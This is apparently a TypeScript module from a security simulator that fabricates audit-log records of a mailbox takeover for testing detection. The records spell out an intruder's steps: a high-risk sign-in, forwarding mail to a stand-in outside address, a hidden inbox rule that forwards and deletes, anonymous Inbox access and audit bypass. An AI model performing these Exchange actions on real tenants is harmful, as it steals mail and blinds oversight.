import { randomUUID } from 'node:crypto';
import type { JsonRecord, LoggedRecord, SimUser } from '../../../simulator/tenant.js';

const ADDRESS = '203.0.113.77';

/** What an intruder does in a minute: signs in at the provider's high risk, leads mail away, opens the folder, blinds the audit. */
export function takeover(user: SimUser, tenantId: string, nowMs: number): readonly LoggedRecord[] {
  const upn = user.userPrincipalName;
  const outside = 'smtp:collector@elsewhere.example';
  const acts: readonly [string, Readonly<Record<string, string>>][] = [
    ['Set-Mailbox', { Identity: upn, ForwardingSmtpAddress: outside, DeliverToMailboxAndForward: 'True' }],
    ['New-InboxRule', { Name: '.', ForwardTo: outside, DeleteMessage: 'True', MarkAsRead: 'True' }],
    [
      'Add-MailboxFolderPermission',
      { Identity: `${upn}:\\Inbox`, User: 'Anonymous', AccessRights: 'Editor' },
    ],
    ['Set-MailboxAuditBypassAssociation', { Identity: upn, AuditBypassEnabled: 'True' }],
  ];
  const cmdlets = acts.map(([operation, parameters], index) =>
    row('Audit.Exchange', nowMs + index * 1_000, {
      Id: randomUUID(),
      CreationTime: new Date(nowMs + index * 1_000).toISOString().slice(0, 19),
      RecordType: 1,
      Operation: operation,
      OrganizationId: tenantId,
      UserType: 0,
      UserKey: upn,
      Workload: 'Exchange',
      ResultStatus: 'True',
      ObjectId: upn,
      UserId: upn,
      ClientIP: `${ADDRESS}:5511`,
      Parameters: Object.entries(parameters).map(([Name, Value]) => ({ Name, Value })),
    }),
  );
  return [signIn(user, nowMs), ...cmdlets];
}

function signIn(user: SimUser, nowMs: number): LoggedRecord {
  return row('signIns', nowMs - 1_000, {
    id: randomUUID(),
    createdDateTime: new Date(nowMs - 1_000).toISOString(),
    userId: user.id,
    userPrincipalName: user.userPrincipalName,
    userDisplayName: user.displayName,
    appId: '00000002-0000-0ff1-ce00-000000000000',
    appDisplayName: 'Office 365 Exchange Online',
    ipAddress: ADDRESS,
    clientAppUsed: 'Browser',
    isInteractive: true,
    signInEventTypes: ['interactiveUser'],
    riskLevelDuringSignIn: 'high',
    riskState: 'atRisk',
    riskEventTypes_v2: ['anonymizedIPAddress'],
    status: { errorCode: 0, failureReason: 'Other.', additionalDetails: null },
    location: { city: 'Vilnius', state: '', countryOrRegion: 'LT' },
    autonomousSystemNumber: 64_500,
  });
}

function row(log: LoggedRecord['log'], atMs: number, record: JsonRecord): LoggedRecord {
  return { log, id: String(record.id ?? record.Id), atMs, availableAtMs: atMs + 5_000, record };
}
